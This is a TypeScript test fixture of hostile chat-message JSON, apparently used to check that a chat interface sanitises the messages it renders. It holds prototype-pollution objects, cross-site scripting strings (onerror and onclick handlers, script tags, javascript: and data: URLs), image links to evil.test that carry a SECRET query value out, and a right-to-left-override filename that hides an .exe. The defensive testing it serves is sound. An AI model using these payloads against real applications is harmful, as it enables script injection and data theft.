/**
 * Messages that want to do harm, as JSON, since that is how they arrive. `ran` is what their scripts would call, and no
 * name that ends in `.test` answers: nothing may be asked of it.
 */
export const hostileMessages: Readonly<Record<string, string>> = {
  'metadata that reaches for a prototype':
    '{"role":"assistant","content":"x","metadata":{"title":"T","__proto__":{"polluted":1}}}',
  'metadata that reaches for a constructor':
    '{"role":"assistant","content":"x","metadata":{"constructor":{"prototype":{"polluted":1}}}}',
  'a part that reaches for a prototype':
    '{"role":"assistant","content":[{"type":"thought","title":"T","content":"x","__proto__":{"polluted":1}}]}',
  'a call that reaches for a prototype':
    '{"role":"assistant","content":null,"tool_calls":[{"id":"__proto__","function":{"name":"__proto__","arguments":"{\\"__proto__\\":{\\"polluted\\":1}}"}}]}',
  'a component that reaches for a prototype':
    '{"role":"assistant","content":[{"type":"component","component":"__proto__","value":{"__proto__":{"polluted":1}}}]}',
  'nothing as its content': '{"role":"assistant","content":null}',
  'a picture that tells where it was seen':
    '{"role":"assistant","content":["x",{"type":"image_url","image_url":{"url":"https://evil.test/x?d=SECRET"}}]}',
  'a title that is markup, and ids that are attributes':
    '{"role":"assistant","content":"x","metadata":{"title":"<img src=x onerror=ran()>","id":"a\\" onclick=ran() x=\\"","parent_id":"a"}}',
  'a log that is markup':
    '{"role":"assistant","content":"x","metadata":{"title":"T","log":"<b onclick=ran()>log</b>"}}',
  'a thought whose text is markup':
    '{"role":"assistant","content":[{"type":"thought","title":"T","content":"<img src=x onerror=ran()><script>ran()</script>"}]}',
  'a picture inside a thought':
    '{"role":"assistant","content":"![x](https://evil.test/x.png)","metadata":{"title":"T"}}',
  'a picture inside a result':
    '[{"role":"assistant","content":null,"tool_calls":[{"id":"c","function":{"name":"f","arguments":"{}"}}]},{"role":"tool","tool_call_id":"c","content":[{"url":"https://evil.test/x.png","mime_type":"image/png"}]}]',
  'arguments that would end their code block':
    '{"role":"assistant","content":null,"tool_calls":[{"id":"c","function":{"name":"f","arguments":"{\\"a\\":\\"\\\\n```\\\\n<img src=x onerror=ran()>\\"}"}}]}',
  'pictures that a message brings for itself':
    '{"role":"assistant","content":"x","avatar":"https://evil.test/a.gif","iconURL":"https://evil.test/b.gif"}',
  'a thought that is its own parent':
    '{"role":"assistant","content":"x","metadata":{"title":"T","id":"self","parent_id":"self"}}',
  'two thoughts that are each inside the other':
    '[{"role":"assistant","content":"a","metadata":{"title":"A","id":"a","parent_id":"b"}},{"role":"assistant","content":"b","metadata":{"title":"B","id":"b","parent_id":"a"}}]',
  'parts that are each inside the other':
    '{"role":"assistant","content":[{"type":"thought","title":"A","content":"a","id":1,"parent_id":2},{"type":"thought","title":"B","content":"b","id":2,"parent_id":1}]}',
  'a component that would be an element':
    '{"role":"assistant","content":[{"type":"component","component":"script","value":"ran()"},{"type":"component","component":"iframe","value":"https://evil.test/","props":{"onload":"ran()"}}]}',
  'a file that is a script':
    '{"role":"assistant","content":{"path":"a.png","url":"javascript:ran()","mime_type":"image/png"}}',
  'a file that is a page':
    '{"role":"assistant","content":{"path":"a.html","url":"data:text/html,<script>ran()</script>","mime_type":"text/html"}}',
  'a file of another server':
    '{"role":"assistant","content":{"path":"x","url":"https://evil.test/x.png?d=SECRET","mime_type":"image/png"}}',
  'a file without a protocol':
    '{"role":"assistant","content":{"path":"a","url":"//evil.test/p","mime_type":"image/png"}}',
  'a file with a password in its address':
    '{"role":"assistant","content":{"path":"a","url":"https://u:p@host.test/x","mime_type":"image/png"}}',
  'a page that calls itself a photo':
    '{"role":"assistant","content":{"path":"x","url":"/x","mime_type":"text/html","orig_name":"photo.png"}}',
  'a program whose name reads backwards':
    '{"role":"assistant","content":{"path":"x","url":"/x","mime_type":"image/png","orig_name":"invoice\\u202egnp.exe"}}',
  'a file of wrong types':
    '{"role":"assistant","content":{"path":"a","url":{},"mime_type":[1],"orig_name":{},"size":"NaN"}}',
  'a file that reaches for a prototype':
    '{"role":"assistant","content":{"path":"a","url":"/x","mime_type":"image/png","__proto__":{"polluted":1}}}',
  'a recording that is a page':
    '{"role":"assistant","content":[{"type":"input_audio","input_audio":{"data":"PHNjcmlwdD4=","format":"html,<script>ran()</script>"}}]}',
  'a file of OpenAI that is a page':
    '{"role":"assistant","content":[{"type":"file","file":{"filename":"a.html","file_data":"data:text/html,<script>ran()</script>"}}]}',
};

/** As a list of entries. */
export function entriesOf(json: string): readonly unknown[] {
  return [JSON.parse(json)].flat();
}
